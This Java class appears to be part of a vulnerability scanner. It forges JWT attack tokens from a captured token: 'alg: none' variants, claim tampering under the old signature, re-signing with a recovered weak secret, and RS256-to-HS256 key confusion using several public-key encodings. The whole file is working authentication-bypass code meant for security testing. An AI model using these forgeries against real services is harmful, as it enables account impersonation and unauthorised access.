package dev.periksa.check.auth;

import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSObject;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jose.util.JSONObjectUtils;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.PublicKey;
import java.text.ParseException;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.bouncycastle.asn1.x509.SubjectPublicKeyInfo;

/**
 * Reads a captured JWT and crafts the attack tokens of RFC 8725 from it: unsigned ({@code alg:
 * none}), a claim changed under the old signature, HMAC tokens signed with a public key (RS256 to
 * HS256 confusion) and tokens re-signed with a recovered secret. Tokens made here exist only in
 * memory and in the one request that carries each; none is ever put in evidence.
 */
public final class TokenForge {
  private TokenForge() {}

  /** What a report may show in place of any token. */
  public static final String MASK = "eyJ•••";

  /** A captured compact JWS: its three parts as sent, the algorithm and the claims. */
  public record Captured(
      Base64URL header, Base64URL payload, Base64URL signature, String alg, JWTClaimsSet claims) {

    /** The bytes an HMAC signature covers: {@code header.payload}, exactly as captured. */
    public byte[] signingInput() {
      return (header + "." + payload).getBytes(StandardCharsets.US_ASCII);
    }

    /** The header's JOSE parameters, as captured (for facts: alg, typ, kid; nothing secret). */
    public Map<String, Object> headerFields() {
      try {
        return JSONObjectUtils.parse(header.decodeToString());
      } catch (ParseException e) {
        return Map.of();
      }
    }

    /** Whether the signature is an HMAC (HS256/384/512), which a wordlist may recover. */
    public boolean isHmac() {
      return macAlgorithm(alg).isPresent();
    }

    /** The claim names, for evidence (values are the identity's own and stay out). */
    public List<String> claimNames() {
      return new ArrayList<>(claims.getClaims().keySet());
    }
  }

  /**
   * Reads a compact JWS whose payload is a JSON claims set; empty for anything else (opaque tokens,
   * encrypted JWTs, unsigned tokens, malformed text).
   */
  public static Optional<Captured> parse(String token) {
    if (token == null) {
      return Optional.empty();
    }
    try {
      JWSObject jws = JWSObject.parse(token.strip());
      Base64URL[] parts = jws.getParsedParts();
      JWTClaimsSet claims = JWTClaimsSet.parse(jws.getPayload().toJSONObject());
      if (claims == null || parts[2].toString().isEmpty()) {
        return Optional.empty();
      }
      return Optional.of(
          new Captured(
              parts[0], parts[1], parts[2], jws.getHeader().getAlgorithm().getName(), claims));
    } catch (ParseException | RuntimeException e) {
      return Optional.empty();
    }
  }

  /** Whether a text is shaped like a compact JWT at all (signed or not). */
  public static boolean looksLikeJwt(String token) {
    return token != null && token.strip().matches("eyJ[A-Za-z0-9_-]*\\.[A-Za-z0-9_-]+\\.?.*");
  }

  /**
   * An unsigned token: header {@code {"alg":<alg>,"typ":"JWT"}}, the claims, an empty signature.
   * The alg spelling is free so that "None" and "NONE" can be tried too (libraries that compare it
   * case-insensitively have been caught by those).
   */
  public static String unsigned(String alg, JWTClaimsSet claims) {
    Map<String, Object> h = new LinkedHashMap<>();
    h.put("alg", alg);
    h.put("typ", "JWT");
    return b64(JSONObjectUtils.toJSONString(h)) + "." + claims.toPayload().toBase64URL() + ".";
  }

  /** The captured header and signature around different claims: a tampered token. */
  public static String tampered(Captured original, JWTClaimsSet claims) {
    return original.header() + "." + claims.toPayload().toBase64URL() + "." + original.signature();
  }

  /**
   * The captured header over new claims, with a valid HMAC under the given secret (a recovered
   * one). Raw {@link Mac}, because a weak secret is usually shorter than the 256 bits nimbus's
   * signer insists on: here that weakness is the point.
   */
  public static String resigned(Captured original, JWTClaimsSet claims, byte[] secret) {
    String input = original.header() + "." + claims.toPayload().toBase64URL();
    String mac = macAlgorithm(original.alg()).orElse("HmacSHA256");
    return input + "." + Base64URL.encode(hmac(mac, secret, ascii(input)));
  }

  /**
   * An HS256 token over the claims, signed with the given bytes as the HMAC secret: RS256 to HS256
   * key confusion when those bytes are an encoding of the server's public key. The key id is kept
   * so a server that picks its key by {@code kid} picks the public one.
   */
  public static String confused(JWTClaimsSet claims, byte[] publicKeyEncoding, String kid) {
    JWSHeader.Builder h = new JWSHeader.Builder(JWSAlgorithm.HS256).type(JOSEObjectType.JWT);
    if (kid != null) {
      h.keyID(kid);
    }
    try {
      SignedJWT jwt = new SignedJWT(h.build(), claims);
      jwt.sign(new MACSigner(publicKeyEncoding));
      return jwt.serialize();
    } catch (Exception e) {
      // A key encoding shorter than 256 bits cannot come from a real public key; sign raw anyway.
      String input = h.build().toBase64URL() + "." + claims.toPayload().toBase64URL();
      return input + "." + Base64URL.encode(hmac("HmacSHA256", publicKeyEncoding, ascii(input)));
    }
  }

  /** One way a library may turn a public key into the bytes of an HMAC secret. */
  public record KeyEncoding(String name, byte[] bytes) {}

  /**
   * The encodings of a public key that a confused server may use as its HMAC secret: X.509 PEM with
   * and without the trailing newline, the DER bytes themselves, and for RSA the PKCS#1 PEM ({@code
   * BEGIN RSA PUBLIC KEY}).
   */
  public static List<KeyEncoding> encodings(PublicKey key) {
    List<KeyEncoding> out = new ArrayList<>();
    byte[] der = key.getEncoded();
    String pem = pem("PUBLIC KEY", der);
    out.add(new KeyEncoding("X.509 PEM with trailing newline", ascii(pem)));
    out.add(new KeyEncoding("X.509 PEM without trailing newline", ascii(pem.stripTrailing())));
    out.add(new KeyEncoding("X.509 DER", der));
    if ("RSA".equals(key.getAlgorithm())) {
      try {
        byte[] pkcs1 = SubjectPublicKeyInfo.getInstance(der).parsePublicKey().getEncoded();
        out.add(new KeyEncoding("PKCS#1 PEM", ascii(pem("RSA PUBLIC KEY", pkcs1))));
      } catch (java.io.IOException | RuntimeException e) {
        // Without PKCS#1 the other three encodings still stand.
      }
    }
    return out;
  }

  /** PEM armour as OpenSSL writes it: 64-column base64 lines, LF, a final newline. */
  static String pem(String type, byte[] der) {
    String body = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der);
    return "-----BEGIN " + type + "-----\n" + body + "\n-----END " + type + "-----\n";
  }

  /** The JCA name of an HMAC JWS algorithm (HS256 → HmacSHA256), or empty for any other. */
  public static Optional<String> macAlgorithm(String alg) {
    if (alg == null) {
      return Optional.empty();
    }
    switch (alg) {
      case "HS256":
        return Optional.of("HmacSHA256");
      case "HS384":
        return Optional.of("HmacSHA384");
      case "HS512":
        return Optional.of("HmacSHA512");
      default:
        return Optional.empty();
    }
  }

  static byte[] hmac(String macAlgorithm, byte[] key, byte[] data) {
    try {
      Mac mac = Mac.getInstance(macAlgorithm);
      mac.init(new SecretKeySpec(key, macAlgorithm));
      return mac.doFinal(data);
    } catch (GeneralSecurityException | IllegalArgumentException e) {
      throw new IllegalStateException("cannot compute " + macAlgorithm, e);
    }
  }

  private static String b64(String json) {
    return Base64URL.encode(json.getBytes(StandardCharsets.UTF_8)).toString();
  }

  private static byte[] ascii(String s) {
    return s.getBytes(StandardCharsets.US_ASCII);
  }
}
